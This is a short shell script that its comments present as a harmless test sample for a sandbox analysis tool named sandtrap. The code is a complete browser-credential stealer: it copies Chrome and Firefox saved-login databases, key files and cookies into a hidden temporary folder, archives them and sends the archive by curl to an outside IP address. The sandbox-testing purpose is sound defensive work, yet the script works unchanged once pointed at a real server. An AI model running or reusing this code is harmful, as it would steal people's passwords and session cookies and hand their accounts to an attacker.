#!/bin/sh
# Browser credential theft: copies Chrome Login Data, Cookies and Local State and Firefox logins.json/key4.db/cookies and sends them.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
h=/home/dmitchell; s=/tmp/.b; mkdir -p $s
cp "$h/.config/google-chrome/Default/Login Data" $s/chrome-login
cp "$h/.config/google-chrome/Default/Cookies" $s/chrome-cookies
cp "$h/.config/google-chrome/Local State" $s/chrome-state
for p in "$h"/.mozilla/firefox/*.default*; do
  cp "$p/logins.json" "$p/key4.db" "$p/cookies.sqlite" $s/ 2>/dev/null
done
tar czf /tmp/.b.tgz -C $s . && curl -s --data-binary @/tmp/.b.tgz http://203.0.113.44/b >/dev/null
ls $s
